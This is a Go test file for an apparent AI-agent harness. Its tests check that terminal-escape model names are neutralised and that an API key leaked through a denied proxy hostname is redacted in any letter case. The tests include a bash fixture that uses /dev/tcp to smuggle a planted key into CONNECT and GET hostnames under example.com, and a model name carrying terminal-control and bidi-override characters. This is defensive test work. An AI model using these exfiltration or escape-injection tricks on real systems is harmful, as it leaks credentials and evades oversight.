// `harnessfacts get`/`describe` readers got them in their terminal. The
// names are shown inert, as the output tail is.
func TestModelNamesAreShownInert(t *testing.T) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Model string `json:"model"`
		}
		_ = json.NewDecoder(r.Body).Decode(&req)
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"id": "msg_1", "type": "message", "role": "assistant", "model": req.Model,
			"content": []any{map[string]any{"type": "text", "text": "ok"}}, "stop_reason": "end_turn",
			"usage": map[string]any{"input_tokens": 3, "output_tokens": 1}})
	}), ReadHeaderTimeout: 10 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })

	clis := hostileCLI(t, "claude", "2.1.197 (Claude Code)", `curl -s --noproxy '*' -X POST -H 'Content-Type: application/json' -H 'anthropic-version: 2023-06-01' \
  "$ANTHROPIC_BASE_URL/v1/messages" -d "$(printf '{"model":"m\302\2332J\342\200\256\357\277\276","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}')"
echo; exit 0`)
	dir := openDir(t)
	if err := os.MkdirAll(filepath.Join(dir, "secrets", "anthropic"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "secrets", "anthropic", "key"), []byte("sk-ant-api03-e2e-not-a-real-key-0123456789"), 0o600); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "run.yaml")
	if err := os.WriteFile(file, []byte(`apiVersion: harnessfacts.io/v1alpha1
kind: HarnessRun
metadata: {name: model-names}
spec:
  agent:
    adapter: claude-code
    providerURL: http://`+ln.Addr().String()+`
    credentials:
    - {env: ANTHROPIC_API_KEY, secretKeyRef: {name: anthropic, key: key}}
  fixture: {inline: {files: {fixture.yaml: "prompt: hi\n"}}}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(binary, "run", "-f", file, "--agent-clis", clis, "--secrets", filepath.Join(dir, "secrets"),
		"--evidence", filepath.Join(dir, "evidence"), "--run-root", filepath.Join(openDir(t), "runs"), "--evidence-key", "")
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	_ = cmd.Run()
	var out struct {
		Status harnessv1.HarnessRunStatus `json:"status"`
	}
	if err := yaml.Unmarshal([]byte(stdout.String()), &out); err != nil || out.Status.Phase == "" {
		t.Fatalf("harnessfacts run printed no status (%v)\nstdout:\n%s\nstderr:\n%s", err, stdout.String(), stderr.String())
	}
	u := out.Status.Usage
	if u == nil || u.Source != harnessv1.UsageFromGateway || len(u.Models) != 1 || u.Models[0] != "m<U+009B>2J<U+202E><U+FFFE>" {
		t.Errorf("status.usage: %+v, want the gateway's count naming the model m<U+009B>2J<U+202E><U+FFFE>\n%s", u, stderr.String())
	}
	receipt, err := os.ReadFile(filepath.Join(dir, "evidence", "receipt.json"))
	if err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(string(receipt), "\u009b\u202e\ufffe") {
		t.Errorf("the receipt holds the raw model name:\n%s", receipt)
	}
}

// TestAKeyInADeniedHostIsRedactedLowerCased: the egress proxy compares and
// reports host names lower-cased. An agent that put its mixed-case key in
// a URL's host (on purpose, or building a URL from the wrong variable)
// had the key reported lower-cased, a form the redactor did not match, in
// status.network.deniedHosts, the receipt and the refusal it printed
// (output.log, the output tail). The redactor knows a credential's lower-
// and upper-cased forms.
func TestAKeyInADeniedHostIsRedactedLowerCased(t *testing.T) {
	const key = "sk-Mixed0Case9Key7QwErTy42"
	dir := openDir(t)
	if err := os.MkdirAll(filepath.Join(dir, "secrets", "keys"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "secrets", "keys", "api"), []byte(key), 0o600); err != nil {
		t.Fatal(err)
	}
	const script = `port=${HTTP_PROXY##*:}
exec 3<>/dev/tcp/127.0.0.1/$port
printf 'CONNECT %s.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n' "$PLANTED_KEY" >&3; head -c 300 <&3; exec 3<&-
exec 3<>/dev/tcp/127.0.0.1/$port
printf 'GET http://%s.example.com/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' "$PLANTED_KEY" >&3; cat <&3`
	file := filepath.Join(dir, "run.yaml")
	if err := os.WriteFile(file, []byte("apiVersion: harnessfacts.io/v1alpha1\nkind: HarnessRun\nmetadata: {name: cased}\nspec:\n"+
		"  agent:\n    adapter: exec\n    command: [bash, -c, "+quoteYAML(script)+"]\n"+
		"    credentials:\n    - {env: PLANTED_KEY, secretKeyRef: {name: keys, key: api}}\n"+
		"  fixture: {inline: {files: {fixture.yaml: \"prompt: ask\\n\"}}}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ev := filepath.Join(dir, "evidence")
	cmd := exec.Command(binary, "run", "-f", file, "--secrets", filepath.Join(dir, "secrets"), "--evidence", ev,
		"--run-root", filepath.Join(openDir(t), "runs"), "--evidence-key", "")
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	_ = cmd.Run()
	var out struct {
		Status harnessv1.HarnessRunStatus `json:"status"`
	}
	if err := yaml.Unmarshal([]byte(stdout.String()), &out); err != nil || out.Status.Network == nil || out.Status.Network.Denied != 2 {
		t.Fatalf("harnessfacts run: want a status with two denials (%v)\nstdout:\n%s\nstderr:\n%s", err, stdout.String(), stderr.String())
	}
	log, err := os.ReadFile(filepath.Join(ev, "output.log"))
	if err != nil {
		t.Fatal(err)
	}
	receipt, err := os.ReadFile(filepath.Join(ev, "receipt.json"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(log), "is not allowed") {
		t.Fatalf("the agent did not print the proxy's refusal:\n%s", log)
	}
	for where, text := range map[string]string{"the printed status": stdout.String(), "output.log": string(log), "the receipt": string(receipt)} {
		if strings.Contains(strings.ToLower(text), strings.ToLower(key)) {
			t.Errorf("%s holds the key (lower-cased or as it is):\n%s", where, text)
		}
	}
}
